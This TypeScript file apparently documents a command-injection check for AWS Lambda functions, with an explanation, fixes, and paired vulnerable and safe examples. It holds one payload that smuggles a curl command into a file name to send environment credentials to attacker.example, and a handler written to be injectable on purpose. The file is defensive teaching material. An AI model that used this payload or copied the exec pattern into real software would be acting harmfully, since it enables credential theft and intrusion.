import type { CheckDoc } from '../check-doc.ts';

const template = `Transform: AWS::Serverless-2016-10-31
Resources:
  ResizePhoto:
    Type: AWS::Serverless::Function
    Properties:
      Runtime: nodejs24.x
      Handler: app.handler
      CodeUri: .
      Events:
        Request: { Type: HttpApi, Properties: { Path: '/photos/{name}', Method: get } }
`;

export default {
  why: 'A shell reads `;`, `|`, `$( )` and backticks as commands. Whoever sends the event decides what runs, with the role, the environment and the network of the function.',
  exploit:
    '1. The attacker sends `photo.jpg; curl https://attacker.example/$(env | base64 -w0)` as the name of a file.\n2. The shell runs it and hands over the credentials of the role.\n3. The attacker calls AWS with them from anywhere until they expire.',
  fix: {
    javascript:
      "`execFile('convert', [input, output])` takes a list and starts no shell. Where the program itself takes options, put `--` before the data.",
    python:
      "`subprocess.run(['convert', source, target], check=True)` without `shell=True`. `shlex.quote` helps only where a shell cannot be avoided.",
  },
  blindSpots:
    'Programs that start a shell of their own (`bash -c`, `sh` scripts that quote badly) are not looked into.',
  sources: [
    'https://cwe.mitre.org/data/definitions/78.html',
    'https://nodejs.org/api/child_process.html#child_processexeccommand-options-callback',
  ],
  examples: {
    bad: [
      {
        title: 'a photo shop that resizes by a shell command',
        template,
        subject: 'ResizePhoto',
        marks: 'exec(',
        files: {
          'app.js': `const { exec } = require('node:child_process');

exports.handler = async (event) => {
  const { name } = event.pathParameters;
  await new Promise((done) => exec(\`convert /tmp/\${name} -resize 200 /tmp/small.jpg\`, done));
  return { statusCode: 204 };
};
`,
        },
      },
    ],
    good: [
      {
        title: 'the same with a list of arguments',
        template,
        subject: 'ResizePhoto',
        files: {
          'app.js': `const { execFile } = require('node:child_process');

exports.handler = async (event) => {
  const name = event.pathParameters.name.replace(/[^a-z0-9.]/g, '');
  await new Promise((done) => execFile('convert', [\`/tmp/\${name}\`, '-resize', '200', '/tmp/small.jpg'], done));
  return { statusCode: 204 };
};
`,
        },
      },
    ],
  },
} satisfies CheckDoc;
